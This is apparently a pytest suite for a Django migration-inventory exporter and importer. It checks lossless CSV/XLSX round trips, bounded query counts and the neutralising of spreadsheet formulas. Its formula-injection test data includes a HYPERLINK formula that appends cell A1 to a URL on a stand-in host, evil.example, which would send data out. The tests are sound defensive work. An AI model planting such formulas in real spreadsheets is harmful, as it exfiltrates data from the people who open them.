"""Export writes exactly the import format: importing an export changes nothing; queries do not grow with rows."""

import csv
import io
import zipfile
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command
from django.utils import timezone

from migportal.spreadsheets import formula_safe, unescape_cell
from systems.inventory import exporter
from systems.inventory.importer import Importer
from systems.inventory.readers import Source
from systems.models import VM, Agency, ContactPerson, System, SystemContact
from tests.factories import (
    AgencyFactory,
    ContactPersonFactory,
    SystemContactFactory,
    SystemFactory,
    VMFactory,
    WaveFactory,
)
from waves.models import Wave

from .conftest import counts, errors

pytestmark = pytest.mark.django_db


def _seed():
    call_command("seed_demo", "--no-users", stdout=io.StringIO())


def test_export_then_import_csv_changes_nothing(tmp_path):
    _seed()
    paths = exporter.export_directory(tmp_path)
    assert [path.name for path in paths] == ["agencies.csv", "waves.csv", "systems.csv", "vms.csv", "contacts.csv"]
    result = Importer().run([Source.from_path(path) for path in paths])
    assert result.ok, errors(result)
    assert all(created == updated == 0 for created, updated, _unchanged in counts(result).values())
    assert counts(result)["systems"] == (0, 0, 392)
    assert counts(result)["vms"] == (0, 0, 1349)


def test_export_then_import_xlsx_changes_nothing(tmp_path):
    _seed()
    [path] = exporter.export_directory(tmp_path, fmt="xlsx")
    assert openpyxl.load_workbook(path, read_only=True).sheetnames == [
        "agencies",
        "waves",
        "systems",
        "vms",
        "contacts",
    ]
    result = Importer().run([Source.from_path(path)])
    assert result.ok, errors(result)
    assert all(created == updated == 0 for created, updated, _unchanged in counts(result).values())


def test_export_into_an_empty_database_recreates_the_inventory(tmp_path, django_db_blocker):
    system = SystemFactory(code="S1", description="Linje 1\nLinje 2; med semikolon, og «anførsel»")
    SystemFactory(code="S2", agency=system.agency).depends_on.add(system)
    VMFactory(system=system, memory_gb="7.25")
    SystemContactFactory(system=system, role="tester")
    before = Path(tmp_path / "before")
    exporter.export_directory(before)
    System.objects.all().delete()
    result = Importer().run([Source.from_path(path) for path in sorted(before.iterdir())])
    assert result.ok, errors(result)
    after = Path(tmp_path / "after")
    exporter.export_directory(after)
    for path in sorted(before.iterdir()):
        assert (after / path.name).read_text() == path.read_text(), path.name


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klikk")', "+47 22 00 00 00", "-1+1", "@SUM(A1)", "'", "'=1"]


def test_formula_safe_prefixes_every_start_a_spreadsheet_runs():
    for start in ("=", "+", "-", "@", "\t", "\r", "'"):
        assert formula_safe(f"{start}x") == f"'{start}x"
        assert unescape_cell(formula_safe(f"{start}x")) == f"{start}x"
    assert formula_safe("Sakarkiv") == "Sakarkiv"
    assert unescape_cell("'Sakarkiv") == "'Sakarkiv", "an apostrophe a user typed stays"


@pytest.mark.parametrize("formula", FORMULAS)
def test_export_csv_neutralises_formulas_and_import_restores_them(tmp_path, formula):
    SystemFactory(code="S1", name=formula, description=f"'{formula}")
    exporter.export_directory(tmp_path)
    header, row = csv.reader(io.StringIO((tmp_path / "systems.csv").read_text()))
    cells = dict(zip(header, row, strict=True))
    assert (cells["name"], cells["description"]) == (f"'{formula}", f"''{formula}")
    System.objects.all().delete()
    result = Importer().run([Source.from_path(path) for path in sorted(tmp_path.iterdir())])
    assert result.ok, errors(result)
    system = System.objects.get(code="S1")
    assert (system.name, system.description) == (formula, f"'{formula}")


def test_export_xlsx_keeps_formula_like_text_as_text_and_numbers_as_numbers(tmp_path):
    system = SystemFactory(code="S1", name='=HYPERLINK("http://evil.example","Klikk")')
    VMFactory(system=system, vcpus=4, memory_gb="7.25")
    [path] = exporter.export_directory(tmp_path, fmt="xlsx")
    workbook = openpyxl.load_workbook(path)
    name = workbook["systems"]["B2"]
    assert (name.data_type, name.value) == ("s", "'" + system.name)
    assert [cell.value for cell in workbook["vms"][2][3:6]] == [4, 7.25, 100]
    result = Importer().run([Source.from_path(path)])
    assert counts(result)["systems"] == (0, 0, 1) and counts(result)["vms"] == (0, 0, 1), errors(result)


def test_export_zip_holds_the_five_csv_files():
    SystemFactory(code="S1")
    stream = io.BytesIO()
    exporter.write_zip(stream)
    archive = zipfile.ZipFile(stream)
    assert archive.namelist() == ["agencies.csv", "waves.csv", "systems.csv", "vms.csv", "contacts.csv"]
    assert archive.read("systems.csv").decode().splitlines()[1].startswith("S1,")


def _inventory(size: int) -> None:
    for number in range(size):
        system = SystemFactory(code=f"S{number:04d}")
        VMFactory(system=system)
        SystemContactFactory(system=system)
        if number:
            system.depends_on.add(System.objects.get(code="S0000"))


@pytest.mark.parametrize("size", [3, 30])
def test_import_and_export_queries_do_not_grow_with_rows(tmp_path, size, django_assert_max_num_queries):
    _inventory(size)
    with django_assert_max_num_queries(12):
        paths = exporter.export_directory(tmp_path)
    sources = [Source.from_path(path) for path in paths]
    with django_assert_max_num_queries(25):
        result = Importer().run(sources)
    assert counts(result)["systems"] == (0, 0, size)
    # And once more into an empty inventory: every row created, still a bounded number of queries.
    System.objects.all().delete()
    with django_assert_max_num_queries(60):
        result = Importer().run(sources)
    assert result.ok, errors(result)
    assert counts(result)["systems"] == (size, 0, 0)


# --- every editable field, into an empty database ----------------------------------------------------------

#: Fields the inventory format leaves out on purpose: the login a contact person may have, and the status a
#: system on hold returns to (the importer derives it).
NOT_CARRIED = {"user", "status_before_hold"}
NATURAL_KEYS = {Agency: "code", Wave: "name", System: "code", VM: "hostname", ContactPerson: "email"}


def _dump() -> dict[str, list[tuple]]:
    """Every model's editable fields (related rows by natural key), and the dependencies."""
    data = {}
    for model in (Agency, Wave, System, VM, ContactPerson, SystemContact):
        fields = [
            field
            for field in model._meta.concrete_fields
            if field.editable and not field.primary_key and field.name not in NOT_CARRIED
        ]
        rows = []
        for obj in model.objects.all():
            row = []
            for field in fields:
                value = getattr(obj, field.name)
                row.append(getattr(value, NATURAL_KEYS[type(value)]) if type(value) in NATURAL_KEYS else value)
            rows.append(tuple(row))
        data[model.__name__] = sorted(rows, key=repr)
    data["depends_on"] = sorted(System.depends_on.through.objects.values_list("from_system__code", "to_system__code"))
    return data


def _inventory_with_every_field() -> None:
    now = timezone.now().replace(microsecond=0)
    etat, bydel = AgencyFactory(code="BYM", kind="etat"), AgencyFactory(code="BSH", kind="bydel")
    coming = WaveFactory(name="Bølge 1", state="confirmed", max_vms=10, notes="Første bølge\nto linjer")
    done = WaveFactory(
        name="Bølge 0", state="completed", window_start=now - timedelta(days=40), window_end=now - timedelta(days=39)
    )
    erp = SystemFactory(
        code="ERP",
        name="=Økonomi",
        description="Linje 1\nLinje 2; semikolon, komma «sitat»",
        agency=etat,
        environment="test",
        criticality="critical",
        status="planned",
        wave=coming,
        downtime_start=coming.window_start + timedelta(hours=1),
        downtime_end=coming.window_start + timedelta(hours=2, minutes=30),
        source_datacenter="DC Oslo",
        target_datacenter="Leverandør A",
    )
    ark = SystemFactory(
        code="ARK", agency=bydel, status="migrated", wave=done, migrated_at=now - timedelta(days=39, minutes=7)
    )
    erp.depends_on.add(ark)
    VMFactory(system=erp, hostname="erp01.kommune.local", status="planned", memory_gb="7.25", disk_gb="0.5")
    VMFactory(
        system=ark, hostname="ark01.kommune.local", status="migrated", migrated_at=now - timedelta(days=39), vcpus=None
    )
    kari = ContactPersonFactory(email="kari@kommune.example", phone="+47 22 00 00 00", agency=etat, language="en")
    SystemContactFactory(system=erp, contact=kari, role="primary")
    SystemContactFactory(system=ark, contact=kari, role="tester")
    ContactPersonFactory(email="uten.system@kommune.example", agency=None)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_restoring_an_export_into_an_empty_database_reproduces_every_editable_field(tmp_path, fmt, settings):
    settings.NOTICE_LEAD_DAYS = 14  # the confirmed wave's announcement waits (nothing is published by the restore)
    _inventory_with_every_field()
    before = _dump()
    paths = exporter.export_directory(tmp_path, fmt=fmt)
    for model in (SystemContact, VM, ContactPerson, System, Wave, Agency):
        model.objects.all().delete()
    result = Importer().run([Source.from_path(path) for path in paths])
    assert result.ok, errors(result)
    assert _dump() == before
